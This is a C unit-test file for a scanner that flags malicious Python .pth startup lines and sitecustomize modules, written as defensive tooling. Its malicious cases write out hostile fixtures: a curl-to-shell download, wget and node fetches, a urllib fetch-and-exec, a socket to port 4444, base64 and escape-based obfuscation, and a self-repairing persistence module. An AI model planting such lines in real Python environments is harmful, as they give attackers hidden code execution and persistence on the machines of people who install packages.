/*
 * Content analyser tests. Benign cases are the exact executable shapes
 * that packaging tools write: setuptools, coverage, pytest-cov, pywin32,
 * Debian's apport hook, virtualenv, uv and editables. The malicious cases
 * were written for these tests after published patterns, such as a .pth
 * line that re-spawns Python on base64 code, one that runs code hidden in
 * a log file and one that downloads with curl or starts bun. Their only
 * addresses are 127.0.0.1, 10.0.0.1 and example.invalid.
 */
#include <errno.h>
#include <glob.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "assess/content.h"

#define BIT(f) (1u << (f))

struct content_case {
	const char *name;
	enum content_kind kind;
	const char *text;
	uint32_t expected;
};

/* The benign shapes and the features each one is expected to fire. */
static const struct content_case benign_cases[] = {
	{ "setuptools distutils-precedence, default local", CONTENT_PTH_LINE,
	  "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') "
	  "== 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
	  BIT(CONTENT_ENV_GUARD) },
	{ "setuptools distutils-precedence, default stdlib", CONTENT_PTH_LINE,
	  "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'stdlib') "
	  "== 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
	  BIT(CONTENT_ENV_GUARD) },
	{ "setuptools nspkg, one namespace", CONTENT_PTH_LINE,
	  "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], "
	  "*('zope',));importlib = __import__('importlib.util');"
	  "__import__('importlib.machinery');m = sys.modules.setdefault('zope', "
	  "importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', "
	  "[os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', "
	  "types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);"
	  "(p not in mp) and mp.append(p)",
	  0 },
	{ "setuptools nspkg, dotted, has_mfs guard", CONTENT_PTH_LINE,
	  "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = "
	  "os.path.join(sys._getframe(1).f_locals['sitedir'], *('backports', 'ssl'));"
	  "importlib = has_mfs and __import__('importlib.util');has_mfs and "
	  "__import__('importlib.machinery');m = has_mfs and "
	  "sys.modules.setdefault('backports.ssl', importlib.util.module_from_spec("
	  "importlib.machinery.PathFinder.find_spec('backports.ssl', [os.path.dirname(p)])));"
	  "m = m or sys.modules.setdefault('backports.ssl', types.ModuleType('backports.ssl'));"
	  "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and "
	  "mp.append(p);m and setattr(sys.modules['backports'], 'ssl', m)",
	  0 },
	{ "setuptools editable finder", CONTENT_PTH_LINE,
	  "import __editable___my_pkg_1_0_finder; __editable___my_pkg_1_0_finder.install()", 0 },
	{ "editables import hook", CONTENT_PTH_LINE, "import _editable_impl_my_pkg", 0 },
	{ "easy-install rewrite header", CONTENT_PTH_LINE,
	  "import sys; sys.__plen = len(sys.path)", 0 },
	{ "easy-install rewrite trailer", CONTENT_PTH_LINE,
	  "import sys; new = sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p = "
	  "getattr(sys, '__egginsert', 0); sys.path[p:p] = new; sys.__egginsert = p + len(new)",
	  0 },
	{ "virtualenv", CONTENT_PTH_LINE, "import _virtualenv", 0 },
	{ "uv ephemeral overlay", CONTENT_PTH_LINE,
	  "import site; site.addsitedir(\"/root/.cache/uv/archive-v0/x/lib/python3.12/site-packages\")",
	  0 },
	{ "coverage a1_coverage", CONTENT_PTH_LINE,
	  "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or "
	  "os.getenv(\"COVERAGE_PROCESS_CONFIG\"):\\n try:\\n  import coverage\\n except:\\n  "
	  "pass\\n else:\\n  coverage.process_startup(slug=\"pth\")')",
	  BIT(CONTENT_ENV_GUARD) },
	{ "coverage subcover", CONTENT_PTH_LINE,
	  "import sys; exec('try:\\n    import coverage\\nexcept:\\n    pass\\nelse:\\n    "
	  "coverage.process_startup()\\n')",
	  0 },
	{ "coverage docs recipe", CONTENT_PTH_LINE,
	  "import coverage; coverage.process_startup()", 0 },
	/* NOTE: the sys.stderr.write() message is reconstructed, so its exact wording is unchecked. */
	{ "pytest-cov", CONTENT_PTH_LINE,
	  "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from "
	  "pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n  "
	  "sys.stderr.write(\\n    \"pytest-cov: Failed to setup subprocess coverage. \"\\n    "
	  "\"Environ: {0!r} \"\\n    \"Exception: {1!r}\\\\n\".format(\\n      "
	  "dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\')),\\n      "
	  "exc\\n    )\\n  )\\n')",
	  BIT(CONTENT_ENV_GUARD) },
	{ "pywin32_38", CONTENT_PTH_LINE,
	  "import os;os.add_dll_directory(os.path.join(sitedir,\"pywin32_system32\"))", 0 },
	/* NOTE: the PATH update between the two known parts is reconstructed. */
	{ "pywin32 PATH and getattr", CONTENT_PTH_LINE,
	  "import os; pywin32_system32 = os.path.join(sitedir,\"pywin32_system32\"); "
	  "os.environ[\"PATH\"] += \";\" + pywin32_system32; getattr(os, \"add_dll_directory\", "
	  "lambda x: None)(pywin32_system32)",
	  0 },
	{ "pywin32 bootstrap", CONTENT_PTH_LINE, "import pywin32_bootstrap", 0 },
	{ "Debian apport sitecustomize", CONTENT_MODULE,
	  "# install the apport exception handler if available\ntry:\n    import "
	  "apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    "
	  "apport_python_hook.install()\n",
	  0 },
	{ "opentelemetry sitecustomize", CONTENT_MODULE,
	  "from opentelemetry.instrumentation.auto_instrumentation import initialize\n\n"
	  "initialize()\n",
	  0 },
};

/* Malicious lines written after published patterns, with the features each must fire. */
static const struct content_case malicious_cases[] = {
	{ "respawn on base64 code", CONTENT_PTH_LINE,
	  "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; "
	  "exec(base64.b64decode(\"cHJpbnQoMSk=\"))'], stdout=subprocess.DEVNULL, "
	  "stderr=subprocess.DEVNULL, start_new_session=True)",
	  BIT(CONTENT_PROCESS) | BIT(CONTENT_RESPAWN) | BIT(CONTENT_DECODING) |
		  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_DETACH) | BIT(CONTENT_KNOWN_FRAGMENT) },
	{ "respawn through python in a string", CONTENT_PTH_LINE,
	  "import os; os.system('python3 -c \"import zz_agent\" &')",
	  BIT(CONTENT_PROCESS) | BIT(CONTENT_RESPAWN) },
	{ "code hidden in a log file", CONTENT_PTH_LINE,
	  "import os, re, codecs; p = '/var/log/app/error.log'; m = os.path.exists(p) and "
	  "re.search(r'\\[hint:([A-Za-z0-9+/=]+)\\]', open(p).read()); m and "
	  "exec(codecs.decode(m.group(1).encode(), 'base64'))",
	  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_DECODING) },
	{ "download piped into a shell", CONTENT_PTH_LINE,
	  "import os; os.system(\"curl -fsSL http://127.0.0.1:8000/setup.sh | sh >/dev/null 2>&1 &\")",
	  BIT(CONTENT_PROCESS) | BIT(CONTENT_RUNTIME) | BIT(CONTENT_ADDRESS) |
		  BIT(CONTENT_DETACH) | BIT(CONTENT_KNOWN_FRAGMENT) },
	{ "bun started detached", CONTENT_PTH_LINE,
	  "import subprocess; subprocess.Popen(['bun', 'run', '/tmp/.cache/index.js'], "
	  "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)",
	  BIT(CONTENT_PROCESS) | BIT(CONTENT_RUNTIME) | BIT(CONTENT_DETACH) },
	{ "names joined from pieces", CONTENT_PTH_LINE,
	  "import sys; getattr(__import__('o'+'s'), 'sys'+'tem')('id')",
	  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_HIDDEN_NAME) },
	{ "code spelled with chr", CONTENT_PTH_LINE,
	  "import sys; eval(chr(95)+chr(95)+chr(105)+chr(109))",
	  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_HIDDEN_NAME) },
	{ "code spelled with hex escapes", CONTENT_PTH_LINE,
	  "import sys; exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x7a\\x7a')",
	  BIT(CONTENT_HIDDEN_NAME) | BIT(CONTENT_DYNAMIC_CODE) },
	{ "builtins looked up by name", CONTENT_PTH_LINE,
	  "import builtins; getattr(builtins, 'ex' 'ec')(open('/tmp/.x').read())",
	  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_HIDDEN_NAME) },
	/* Evasions of fixed spellings: aliases, blanks, escapes, look-alike letters, encodings. */
	{ "respawn through module aliases", CONTENT_PTH_LINE,
	  "import sys as s, os as o; o.fork() or o.execv(s.executable, [s.executable, '-c', 'pass'])",
	  BIT(CONTENT_PROCESS) | BIT(CONTENT_RESPAWN) },
	{ "exec through an alias", CONTENT_PTH_LINE,
	  "import os; e = exec; e(bytes.fromhex('7072696e742831290a'))",
	  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_HIDDEN_NAME) | BIT(CONTENT_DECODING) },
	{ "octal escapes in an exec literal", CONTENT_PTH_LINE,
	  "import os; exec('\\151\\155\\160\\157\\162\\164\\040\\172\\172')",
	  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_HIDDEN_NAME) },
	{ "unicode escapes in an exec literal", CONTENT_PTH_LINE,
	  "import os; exec('\\u0069\\u006d\\u0070\\u006f\\u0072\\u0074\\u0020\\u007a')",
	  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_HIDDEN_NAME) },
	{ "exec in mathematical letters", CONTENT_PTH_LINE,
	  "import os; \xf0\x9d\x90\x9e\xf0\x9d\x90\xb1\xf0\x9d\x90\x9e\xf0\x9d\x90\x9c('x = 1')",
	  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_HIDDEN_NAME) },
	{ "system looked up with getattr", CONTENT_PTH_LINE,
	  "import os; getattr(os, 'system')('true')", BIT(CONTENT_PROCESS) },
	{ "form feed before the call", CONTENT_PTH_LINE,
	  "import os; os.system\f('true')", BIT(CONTENT_PROCESS) },
	{ "blanks around the dot", CONTENT_PTH_LINE,
	  "import os, sys; os . system ( sys . executable + ' -c pass &' )",
	  BIT(CONTENT_PROCESS) | BIT(CONTENT_RESPAWN) },
	{ "nested quotes in an f-string", CONTENT_PTH_LINE,
	  "import os; x = f\"{\"#\"}\"; os.system('true')", BIT(CONTENT_PROCESS) },
	{ "utf-7 coding declaration", CONTENT_MODULE,
	  "# -*- coding: utf-7 -*-\nx = 1\n", BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_HIDDEN_NAME) },
	{ "reversed name", CONTENT_PTH_LINE,
	  "import os; getattr(os, 'metsys'[::-1])('true')",
	  BIT(CONTENT_HIDDEN_NAME) },
	{ "zlib and marshal layers", CONTENT_PTH_LINE,
	  "import marshal, zlib; exec(marshal.loads(zlib.decompress(bytes.fromhex('789c'))))",
	  BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_DECODING) },
	{ "socket to a literal address", CONTENT_PTH_LINE,
	  "import socket; s = socket.create_connection(('127.0.0.1', 4444))",
	  BIT(CONTENT_NETWORK) },
	{ "URL fetched with urllib", CONTENT_PTH_LINE,
	  "import urllib.request; exec(urllib.request.urlopen('https://example.invalid/a').read())",
	  BIT(CONTENT_NETWORK) | BIT(CONTENT_DYNAMIC_CODE) | BIT(CONTENT_ADDRESS) },
	{ "IP and port in a string", CONTENT_PTH_LINE,
	  "import zz; zz.connect('10.0.0.1:8443')", BIT(CONTENT_ADDRESS) },
	{ "cmdline guard", CONTENT_PTH_LINE,
	  "import os; b'pip' in open('/proc/self/cmdline', 'rb').read() or __import__('zz_agent')",
	  BIT(CONTENT_PROC_GUARD) },
	{ "argv guard", CONTENT_PTH_LINE,
	  "import sys; 'install' in sys.argv or __import__('zz_agent')", BIT(CONTENT_ARGV_GUARD) },
	{ "environ subscript read", CONTENT_PTH_LINE,
	  "import os; os.environ['CI'] == 'true' or __import__('zz_agent')", BIT(CONTENT_ENV_GUARD) },
	{ "self-repairing module", CONTENT_MODULE,
	  "import atexit, os, site, signal\n\n"
	  "def _restore(*args):\n"
	  "    path = os.path.join(site.getsitepackages()[0], 'zz-init.pth')\n"
	  "    with open(path, 'w') as f:\n"
	  "        f.write('import zz_agent\\n')\n\n"
	  "atexit.register(_restore)\n"
	  "signal.signal(signal.SIGTERM, _restore)\n",
	  BIT(CONTENT_EXIT_HOOK) | BIT(CONTENT_SELF_REPAIR) },
	{ "double fork", CONTENT_MODULE,
	  "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
	  "        os.execv('/usr/bin/true', ['true'])\n",
	  BIT(CONTENT_DETACH) | BIT(CONTENT_PROCESS) },
	{ "daemon thread", CONTENT_MODULE,
	  "import threading\nthreading.Thread(target=print, daemon=True).start()\n",
	  BIT(CONTENT_DETACH) },
	{ "node and wget", CONTENT_PTH_LINE,
	  "import os; os.popen('wget -q -O /tmp/a.js http://example.invalid/a.js && node /tmp/a.js')",
	  BIT(CONTENT_PROCESS) | BIT(CONTENT_RUNTIME) | BIT(CONTENT_ADDRESS) },
	{ "subprocess imported by name", CONTENT_PTH_LINE,
	  "import sys; __import__('subprocess').call(['true'])", BIT(CONTENT_PROCESS) },
};

/* Look-alikes that must not fire what they resemble. */
static const struct content_case lookalike_cases[] = {
	{ "platform.system call", CONTENT_MODULE,
	  "import platform\nif platform.system() == 'Linux':\n    x = 1\n", 0 },
	{ "utf-8 coding declaration", CONTENT_MODULE, "# -*- coding: utf-8 -*-\nx = 1\n", 0 },
	{ "exec called on a literal", CONTENT_PTH_LINE, "import os; exec('x = 1')", 0 },
	{ "a few escapes in a literal", CONTENT_PTH_LINE, "import os; print('\\x41\\x42')", 0 },
	{ "call only in a comment", CONTENT_MODULE,
	  "import zz  # os.system('x'); exec(base64.b64decode(y))\n", 0 },
	{ "re.compile method", CONTENT_PTH_LINE, "import re; p = re.compile(pattern)", 0 },
	{ "eval of a literal", CONTENT_PTH_LINE, "import sys; eval('1 + 1')", 0 },
	{ "exec of a literal", CONTENT_PTH_LINE, "import sys; exec(\"import zz\")", 0 },
	{ "word subprocess in a message", CONTENT_PTH_LINE,
	  "import sys; sys.stderr.write('no subprocess coverage')", 0 },
	{ "environ assignment", CONTENT_PTH_LINE,
	  "import os; os.environ['ZZ_HOME'] = '/opt/zz'", 0 },
	{ "single fork", CONTENT_MODULE, "import os\npid = os.fork()\n", 0 },
	{ "three-part version is no address", CONTENT_PTH_LINE,
	  "import zz; zz.require('1.2.3:5')", 0 },
	{ "popen2 name fragment", CONTENT_PTH_LINE, "import zz; zz.xpopen2()", 0 },
	{ "joined message is no hidden name", CONTENT_PTH_LINE,
	  "import sys; sys.stderr.write('zz: cannot start' + \"\\n\")", 0 },
	{ "binary escapes are no hidden name", CONTENT_PTH_LINE,
	  "import zz; zz.MAGIC = b'\\x89\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08'", 0 },
	{ "site-packages path without a write", CONTENT_PTH_LINE,
	  "import site; site.addsitedir('/opt/zz/lib/site-packages')", 0 },
};

/* Checks one case bit by bit, so that a failure names the case and the feature. */
static void
check_case(const struct content_case *c)
{
	struct content_report report;
	size_t len = strlen(c->text);
	unsigned f;

	assert_int_equal(content_analyse((const uint8_t *)c->text, len, c->kind, &report), 0);
	for (f = 0; f < CONTENT_FEATURE_COUNT; f++) {
		bool expected = (c->expected & BIT(f)) != 0;
		bool fired = content_has(&report, (enum content_feature)f);

		if (expected != fired)
			print_message("case '%s': feature %s %s (reason '%s')\n", c->name,
				      content_feature_name((enum content_feature)f),
				      fired ? "fired unexpectedly" : "did not fire",
				      fired ? report.hits[f].reason : "");
		assert_true(expected == fired);
		if (fired) {
			assert_non_null(report.hits[f].reason);
			assert_true(report.hits[f].offset < len);
		}
	}
	assert_int_equal(report.length, len);
	assert_int_equal(report.analysed, len);
	assert_false(report.truncated);
}

static void
benign_shapes_table(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(benign_cases) / sizeof(benign_cases[0]); i++)
		check_case(&benign_cases[i]);
}

static void
malicious_lines_table(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(malicious_cases) / sizeof(malicious_cases[0]); i++)
		check_case(&malicious_cases[i]);
}

static void
lookalikes_table(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(lookalike_cases) / sizeof(lookalike_cases[0]); i++)
		check_case(&lookalike_cases[i]);
}

/* Reads a file installed on this host and returns its length, or 0 when it is absent. */
static size_t
read_host_file(const char *path, uint8_t *buf, size_t size)
{
	FILE *f = fopen(path, "rb");
	size_t n;

	if (f == NULL)
		return 0;
	n = fread(buf, 1, size, f);
	fclose(f);
	return n;
}

/*
 * The installed copies of Debian's distutils-precedence.pth and apport
 * sitecustomize.py, when this host has them, give the same result as the
 * catalogue shapes above.
 */
static void
installed_benign_files(void **state)
{
	static const struct {
		const char *path;
		enum content_kind kind;
		uint32_t expected;
	} files[] = {
		{ "/usr/lib/python3/dist-packages/distutils-precedence.pth", CONTENT_PTH_LINE,
		  BIT(CONTENT_ENV_GUARD) },
		{ "/etc/python3.11/sitecustomize.py", CONTENT_MODULE, 0 },
	};
	uint8_t buf[4096];
	struct content_report report;
	size_t i, n, checked = 0;

	(void)state;
	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		n = read_host_file(files[i].path, buf, sizeof(buf));
		if (n == 0)
			continue;
		while (files[i].kind == CONTENT_PTH_LINE && n > 0 &&
		       (buf[n - 1] == '\n' || buf[n - 1] == '\r'))
			n--;
		assert_int_equal(content_analyse(buf, n, files[i].kind, &report), 0);
		if (report.features != files[i].expected)
			print_message("%s: features 0x%x, expected 0x%x\n", files[i].path,
				      report.features, files[i].expected);
		assert_int_equal(report.features, files[i].expected);
		checked++;
	}
	if (checked == 0)
		skip();
}

/*
 * The distutils-precedence.pth files that pyenv's setuptools installed,
 * whose default is 'local' or 'stdlib' by version, fire only the
 * environment guard.
 */
static void
installed_distutils_precedence(void **state)
{
	uint8_t buf[4096];
	struct content_report report;
	glob_t g;
	size_t i, n, checked = 0;

	(void)state;
	if (glob("/root/.pyenv/versions/*/lib/python3.*/site-packages/distutils-precedence.pth",
		 0, NULL, &g) != 0)
		skip();
	for (i = 0; i < g.gl_pathc; i++) {
		n = read_host_file(g.gl_pathv[i], buf, sizeof(buf));
		while (n > 0 && (buf[n - 1] == '\n' || buf[n - 1] == '\r'))
			n--;
		if (n == 0)
			continue;
		assert_int_equal(content_analyse(buf, n, CONTENT_PTH_LINE, &report), 0);
		if (report.features != BIT(CONTENT_ENV_GUARD))
			print_message("%s: features 0x%x\n", g.gl_pathv[i], report.features);
		assert_int_equal(report.features, BIT(CONTENT_ENV_GUARD));
		checked++;
	}
	globfree(&g);
	assert_true(checked > 0);
}

/*
 * Debian's python3-setuptools generates nspkg lines for one plain and two
 * dotted namespaces with its own code, and none fires any feature.
 */
static void
generated_nspkg_lines(void **state)
{
	static const char python[] = "/usr/bin/python3";
	static const char command[] =
		"/usr/bin/python3 -c '"
		"from setuptools.namespaces import Installer\n"
		"i = Installer.__new__(Installer)\n"
		"for ns in (\"zope\", \"backports.ssl\", \"a.b.c\"):\n"
		"    print(i._gen_nspkg_line(ns).rstrip())\n"
		"' 2>/dev/null";
	char line[8192];
	struct content_report report;
	FILE *p;
	size_t n, lines = 0;

	(void)state;
	if (access(python, X_OK) != 0)
		skip();
	p = popen(command, "r");
	assert_non_null(p);
	while (fgets(line, sizeof(line), p) != NULL) {
		n = strlen(line);
		while (n > 0 && (line[n - 1] == '\n' || line[n - 1] == '\r'))
			n--;
		assert_true(n > 100);
		assert_int_equal(content_analyse((const uint8_t *)line, n, CONTENT_PTH_LINE, &report), 0);
		if (report.features != 0)
			print_message("nspkg line %zu: features 0x%x\n", lines + 1, report.features);
		assert_int_equal(report.features, 0);
		lines++;
	}
	if (pclose(p) != 0 && lines == 0)
		skip(); /* setuptools is not importable by this interpreter */
	assert_int_equal(lines, 3);
}

/* Fills buf with bytes of the base64 alphabet from a fixed linear congruential sequence. */
static void
fill_base64_noise(char *buf, size_t len)
{
	static const char alphabet[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	uint32_t x = 12345;
	size_t i;

	for (i = 0; i < len; i++) {
		x = x * 1103515245u + 12345u;
		buf[i] = alphabet[(x >> 16) & 63];
	}
}

static void
encoded_run_and_entropy(void **state)
{
	static const char head[] = "import base64; exec(base64.b64decode('";
	static const char tail[] = "'))";
	char text[sizeof(head) - 1 + 600 + sizeof(tail)];
	struct content_report report;
	size_t len;

	(void)state;
	memcpy(text, head, sizeof(head) - 1);
	fill_base64_noise(text + sizeof(head) - 1, 600);
	memcpy(text + sizeof(head) - 1 + 600, tail, sizeof(tail));
	len = strlen(text);

	assert_int_equal(content_analyse((const uint8_t *)text, len, CONTENT_PTH_LINE, &report), 0);
	assert_true(content_has(&report, CONTENT_ENCODED_RUN));
	assert_int_equal(report.encoded_run, 600);
	assert_int_equal(report.encoded_run_offset, sizeof(head) - 1);
	assert_true(content_has(&report, CONTENT_HIGH_ENTROPY));
	assert_true(report.entropy > CONTENT_ENTROPY_HIGH && report.entropy < 6.0);
	assert_true(content_has(&report, CONTENT_DECODING));
	assert_true(content_has(&report, CONTENT_KNOWN_FRAGMENT));
	assert_false(content_has(&report, CONTENT_LARGE));
}

static void
entropy_of_known_texts(void **state)
{
	static const uint8_t two[] = "abababab";
	uint8_t all[256];
	struct content_report report;
	size_t i;

	(void)state;
	assert_int_equal(content_analyse(two, 8, CONTENT_MODULE, &report), 0);
	assert_true(report.entropy > 0.999999 && report.entropy < 1.000001);

	for (i = 0; i < sizeof(all); i++)
		all[i] = (uint8_t)i;
	assert_int_equal(content_analyse(all, sizeof(all), CONTENT_MODULE, &report), 0);
	assert_true(report.entropy > 7.999999 && report.entropy < 8.000001);

	/* The nspkg line is the longest benign shape and stays under the threshold. */
	assert_int_equal(content_analyse((const uint8_t *)benign_cases[3].text,
					 strlen(benign_cases[3].text), CONTENT_PTH_LINE, &report), 0);
	assert_true(report.entropy < CONTENT_ENTROPY_HIGH);
}

static void
large_line_and_module(void **state)
{
	size_t len = CONTENT_LARGE_PTH_LINE + 1;
	uint8_t *text = malloc(len);
	struct content_report report;

	(void)state;
	assert_non_null(text);
	memset(text, ' ', len);
	memcpy(text, "import zz", 9);

	assert_int_equal(content_analyse(text, len, CONTENT_PTH_LINE, &report), 0);
	assert_true(content_has(&report, CONTENT_LARGE));
	assert_int_equal(content_analyse(text, len - 1, CONTENT_PTH_LINE, &report), 0);
	assert_false(content_has(&report, CONTENT_LARGE));
	assert_int_equal(content_analyse(text, len, CONTENT_MODULE, &report), 0);
	assert_false(content_has(&report, CONTENT_LARGE));
	free(text);
}

static void
text_beyond_cap_is_truncated(void **state)
{
	size_t len = CONTENT_MAX_TEXT + 100;
	uint8_t *text = malloc(len);
	struct content_report report;

	(void)state;
	assert_non_null(text);
	memset(text, '\n', len);
	/* A call past the cap is not analysed. */
	memcpy(text + CONTENT_MAX_TEXT + 10, "os.system('x')", 14);

	assert_int_equal(content_analyse(text, len, CONTENT_MODULE, &report), 0);
	assert_true(report.truncated);
	assert_int_equal(report.length, len);
	assert_int_equal(report.analysed, CONTENT_MAX_TEXT);
	assert_true(content_has(&report, CONTENT_LARGE));
	assert_false(content_has(&report, CONTENT_PROCESS));
	free(text);
}

static void
nul_bytes_and_unterminated_strings(void **state)
{
	static const uint8_t text[] = "import os\0; os.system(\"x";
	struct content_report report;

	(void)state;
	assert_int_equal(content_analyse(text, sizeof(text) - 1, CONTENT_PTH_LINE, &report), 0);
	assert_true(content_has(&report, CONTENT_PROCESS));
	assert_int_equal(report.hits[CONTENT_PROCESS].offset, 12);
}

static void
invalid_arguments(void **state)
{
	struct content_report report;

	(void)state;
	assert_int_equal(content_analyse(NULL, 1, CONTENT_PTH_LINE, &report), -EINVAL);
	assert_int_equal(content_analyse((const uint8_t *)"x", 1, CONTENT_PTH_LINE, NULL), -EINVAL);
	assert_int_equal(content_analyse((const uint8_t *)"x", 1, (enum content_kind)7, &report),
			 -EINVAL);
	assert_int_equal(content_analyse(NULL, 0, CONTENT_MODULE, &report), 0);
	assert_int_equal(report.features, 0);
	assert_null(content_feature_name(CONTENT_FEATURE_COUNT));
	assert_string_equal(content_feature_name(CONTENT_RESPAWN), "respawn");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(benign_shapes_table),
		cmocka_unit_test(malicious_lines_table),
		cmocka_unit_test(lookalikes_table),
		cmocka_unit_test(installed_benign_files),
		cmocka_unit_test(installed_distutils_precedence),
		cmocka_unit_test(generated_nspkg_lines),
		cmocka_unit_test(encoded_run_and_entropy),
		cmocka_unit_test(entropy_of_known_texts),
		cmocka_unit_test(large_line_and_module),
		cmocka_unit_test(text_beyond_cap_is_truncated),
		cmocka_unit_test(nul_bytes_and_unterminated_strings),
		cmocka_unit_test(invalid_arguments),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
